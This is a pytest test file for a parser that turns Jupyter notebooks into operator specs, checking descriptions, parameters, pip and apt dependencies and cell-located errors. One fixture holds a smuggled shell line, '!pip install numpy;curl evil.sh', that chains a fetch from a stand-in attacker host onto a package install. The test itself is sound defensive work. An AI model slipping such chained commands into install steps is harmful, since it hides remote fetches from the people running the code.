"""Notebook operators: nbformat reading, merged code cells, shell lines, cell-located errors."""

from __future__ import annotations

from pathlib import Path

import nbformat
import pytest

from claimed_cwl.errors import OperatorError
from claimed_cwl.parse import parse_operator
from claimed_cwl.spec import DependencyKind, Language, OperatorSpec, OutputKind, ParamType


def write_notebook(path: Path, cells: list[tuple[str, str]]) -> Path:
    notebook = nbformat.v4.new_notebook()  # type: ignore[no-untyped-call]
    for kind, text in cells:
        maker = nbformat.v4.new_markdown_cell if kind == "markdown" else nbformat.v4.new_code_cell
        notebook.cells.append(maker(text))  # type: ignore[no-untyped-call]
    nbformat.write(notebook, str(path))  # type: ignore[no-untyped-call]
    return path


def parse_cells(tmp_path: Path, cells: list[tuple[str, str]], name: str = "Clean_Text.ipynb") -> OperatorSpec:
    return parse_operator(write_notebook(tmp_path / name, cells))


def test_title_and_description_cells_are_the_description(tmp_path: Path) -> None:
    # C3 read the title cell and the description cell after it; heading marks are no part of the text
    spec = parse_cells(
        tmp_path,
        [("code", "import os"), ("markdown", "\n# Clean text\n"), ("markdown", "Removes noise.\n"),
         ("code", "x = 1"), ("markdown", "Later notes")],
    )
    assert spec.description == "Clean text\n\nRemoves noise."
    assert (spec.name, spec.language, spec.source_file) == ("clean-text", Language.NOTEBOOK, "Clean_Text.ipynb")


def test_parameters_across_code_cells_in_order(tmp_path: Path) -> None:
    spec = parse_cells(
        tmp_path,
        [
            ("code", "import os\n# minimum length\nmin_len = int(os.getenv('min_len', '3'))"),
            ("markdown", "text"),
            ("code", "flag = os.getenv('lower', 'False') == 'True'\nos.environ['kept'] = '1'"),
        ],
    )
    assert [p.name for p in spec.parameters] == ["min_len", "lower"]
    assert spec.parameter("min_len").description == "minimum length"
    assert (spec.parameter("min_len").type, spec.parameter("min_len").default) == (ParamType.INT, 3)
    assert spec.parameter("lower").true_text == "True"
    assert [(o.name, o.kind) for o in spec.outputs] == [("kept", OutputKind.VALUE)]


def test_shell_lines_are_skipped_and_pip_lines_are_dependencies(tmp_path: Path) -> None:
    spec = parse_cells(
        tmp_path,
        [
            ("code", "!pip install nltk==3.8 -q\n%pip install regex\n%matplotlib inline\nimport os"),
            ("code", "if True:\n    !ls -l\nx = os.getenv('x', 'a')"),
            ("code", "!apt-get install -y libxml2"),
        ],
    )
    assert spec.packages(DependencyKind.PIP) == ("nltk==3.8", "regex")
    assert spec.packages(DependencyKind.APT) == ("libxml2",)
    assert spec.parameter("x").default == "a"


def test_cell_magic_cells_are_skipped(tmp_path: Path) -> None:
    spec = parse_cells(tmp_path, [("code", "%%bash\necho $(os.getenv('nope'))\nfor x in"), ("code", "import os")])
    assert spec.parameters == ()


def test_pip_line_in_capture_cell_is_a_dependency(tmp_path: Path) -> None:
    spec = parse_cells(
        tmp_path, [("code", "%%capture\n!pip install seaborn\n"), ("code", "import os\na = os.getenv('a')")]
    )
    assert spec.packages(DependencyKind.PIP) == ("seaborn",)


def test_dependency_comment_in_code_cell(tmp_path: Path) -> None:
    spec = parse_cells(tmp_path, [("code", "# pip install spacy\nimport os")])
    assert spec.packages(DependencyKind.PIP) == ("spacy",)


def test_syntax_error_names_cell_and_line(tmp_path: Path) -> None:
    cells = [("markdown", "doc"), ("code", "import os"), ("code", "x = 1\ny = (\n")]
    with pytest.raises(OperatorError) as info:
        parse_cells(tmp_path, cells)
    error = info.value
    assert (error.where, error.line) == ("cell 3", 2)
    assert "Clean_Text.ipynb (cell 3):2:" in str(error)


def test_conflicting_reads_name_both_cells(tmp_path: Path) -> None:
    cells = [("code", "import os\na = os.getenv('k', '1')"), ("code", "\n\nb = os.getenv('k', '2')")]
    with pytest.raises(OperatorError) as info:
        parse_cells(tmp_path, cells)
    message = str(info.value)
    assert "cell 1, line 2" in message and "cell 2, line 3" in message
    assert info.value.where == "cell 2"


def test_shell_line_with_two_commands_installs_only_the_package(tmp_path: Path) -> None:
    # As in Jupyter, the shell runs both commands at run time; only the package reaches the image build.
    spec = parse_cells(tmp_path, [("code", "import os"), ("code", "!pip install numpy;curl evil.sh")])
    assert spec.packages(DependencyKind.PIP) == ("numpy",)
    assert spec.packages(DependencyKind.APT) == ("curl",)  # the command curl needs its Debian package


def test_invalid_json_gives_the_json_line(tmp_path: Path) -> None:
    path = tmp_path / "broken.ipynb"
    path.write_text('{\n  "cells": [\n    {"cell_type": "code",,}\n  ]\n}\n')
    with pytest.raises(OperatorError, match=r"broken\.ipynb:3: notebook is not valid JSON"):
        parse_operator(path)


def test_json_that_is_not_a_notebook(tmp_path: Path) -> None:
    path = tmp_path / "data.ipynb"
    path.write_text('{"name": "not a notebook"}\n')
    with pytest.raises(OperatorError, match=r"data\.ipynb: not a Jupyter notebook"):
        parse_operator(path)


def test_unsupported_cast_names_cell(tmp_path: Path) -> None:
    with pytest.raises(OperatorError) as info:
        parse_cells(tmp_path, [("code", "import os"), ("code", "x = 1\nv = eval(os.getenv('v', '1'))")])
    assert (info.value.where, info.value.line) == ("cell 2", 2)
    assert "eval" in info.value.message
